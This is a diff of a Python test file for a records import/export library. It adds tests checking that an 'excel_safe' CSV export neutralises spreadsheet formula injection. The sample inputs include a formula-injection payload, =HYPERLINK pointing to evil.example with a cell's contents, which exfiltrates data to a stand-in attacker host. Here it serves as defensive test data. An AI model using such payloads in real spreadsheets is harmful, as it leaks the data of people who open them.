@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import stat
 import unicodedata
 from pathlib import Path
@@ -10,7 +11,7 @@ import msgspec
 import pytest
 
 from groundlevel.imports.export_rules import Export, export_records
-from groundlevel.imports.reader import SheetError
+from groundlevel.imports.reader import Reading, SheetError
 from groundlevel.imports.record_pages import PAGE
 from groundlevel.imports.writer import cell_maker
 from groundlevel.kernel.errors import BadRequest, NotSupported, ObjectNotFound
@@ -20,9 +21,15 @@ from groundlevel.kernel.model import DataType, Json, Option
 from groundlevel.kernel.storage.base import Storage
 from groundlevel.records.bulk import NewRecords, create_records
 from groundlevel.schema.field_rules import NewOption, delete_field
-from tests.imports.importing import counts, file, imported
+from tests.imports.importing import counts, errors_of, file, imported, pets
 from tests.kernel.fields.examples import EXAMPLES, field_of
 from tests.world import PET, World, world_in
+
+FORMULAS = (
+    "=1+1", "+1 now", "-a", "@sum", "'=1", "''@x", "-5", "+14155552671", "-1.5e3", "＝1", "＠x", "'", "'x", "a=1",
+    '=HYPERLINK("http://evil.example/?x="&A1)',
+)  # fmt: skip
+"""Texts that a spreadsheet calculates, and some that it does not."""
 
 
 @pytest.fixture
@@ -30,8 +37,8 @@ async def world(storage: Storage) -> World:
     return await world_in(storage)
 
 
-async def exported(world: World, path: Path, *, overwrite: bool = False) -> int:
-    request = Export(path=path, object_key="pet", overwrite=overwrite)
+async def exported(world: World, path: Path, *, overwrite: bool = False, excel_safe: bool = False) -> int:
+    request = Export(path=path, object_key="pet", overwrite=overwrite, excel_safe=excel_safe)
     return (await export_records(world.storage, world.call, request))[1]
 
 
@@ -55,21 +62,24 @@ async def object_of_all_types(world: World) -> list[dict[str, Json]]:
     return rows
 
 
-@pytest.mark.parametrize("name", ["pets.csv", "pets.tsv", "pets.jsonl"])
-async def test_every_value_comes_back(world: World, tmp_path: Path, name: str) -> None:
+@pytest.mark.parametrize(
+    ("name", "excel_safe"), [("pets.csv", False), ("pets.tsv", False), ("pets.jsonl", False), ("pets.csv", True)]
+)
+async def test_every_value_comes_back(world: World, tmp_path: Path, name: str, excel_safe: bool) -> None:
     rows = await object_of_all_types(world)
+    rows += [{"name": text} for text in FORMULAS]
     written = await world.do(create_records, NewRecords(PET, rows))
     assert (written.created, written.errors) == (len(rows), [])
     before = await everything(world)
-    assert await exported(world, tmp_path / name) == len(rows)
+    assert await exported(world, tmp_path / name, excel_safe=excel_safe) == len(rows)
     for record_id in before:
         await world.delete(record_id)
-    summary = await imported(world, tmp_path / name)
+    summary = await imported(world, tmp_path / name, reading=Reading(excel_safe=excel_safe))
     assert counts(summary) == (len(rows), len(rows), 0, 0)
     # Texts come back in the composed form, which is the same text to people.
     assert composed(list((await everything(world)).values())) == composed(list(before.values()))
     again = tmp_path / f"again-{name}"
-    await exported(world, again)
+    await exported(world, again, excel_safe=excel_safe)
     assert composed(again.read_text(encoding="utf-8")) == composed((tmp_path / name).read_text(encoding="utf-8"))
     assert not list(tmp_path.glob("*.part"))
 
@@ -178,3 +188,40 @@ def test_cells(data_type: DataType, stored: Json, cell: str) -> None:
     choices = tuple(Option(key, key) for key in ("a", "b", "b;c")) if kind.has_options else ()
     field = field_of(data_type, options=choices)
     assert cell_maker(Property(field, kind, field.key))(stored) == cell
+
+
+async def test_a_sheet_that_is_safe_for_excel_has_no_formula(world: World, tmp_path: Path) -> None:
+    await world.pet()
+    await world.field("age", "NUMERICAL")
+    for text in FORMULAS:
+        await world.create({"name": text, "age": -5})
+    await exported(world, tmp_path / "out.csv", excel_safe=True)
+    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as opened:
+        cells = [row[0] for row in csv.reader(opened)][1:]
+        assert "'=1+1" in cells
+    unsafe = [cell for cell in cells if cell[0] in "=+-@＝＋－＠" and not is_number(cell)]
+    assert not unsafe
+    assert (tmp_path / "out.csv").read_text(encoding="utf-8").count(",-5") == len(FORMULAS)
+    with pytest.raises(BadRequest, match="safe for Excel"):
+        await exported(world, tmp_path / "out.jsonl", excel_safe=True)
+
+
+def is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+async def test_refused_rows_of_a_safe_sheet_are_safe_and_come_back(world: World, tmp_path: Path) -> None:
+    await world.pet()
+    await world.field("age", "NUMERICAL")
+    path = file(tmp_path, "name,age\n'=1+1,old\n''=x,none\n")
+    summary = await imported(world, path, reading=Reading(excel_safe=True))
+    assert [row[3] for row in errors_of(summary)] == ["'=1+1", "''=x"]
+    assert summary.errors_path is not None
+    mended = summary.errors_path.read_text(encoding="utf-8").replace(",old", ",1").replace(",none", ",2")
+    again = file(tmp_path, mended, "again.csv")
+    assert counts(await imported(world, again, reading=Reading(excel_safe=True))) == (2, 2, 0, 0)
+    assert [each["name"] for each in await pets(world)] == ["=1+1", "'=x"]
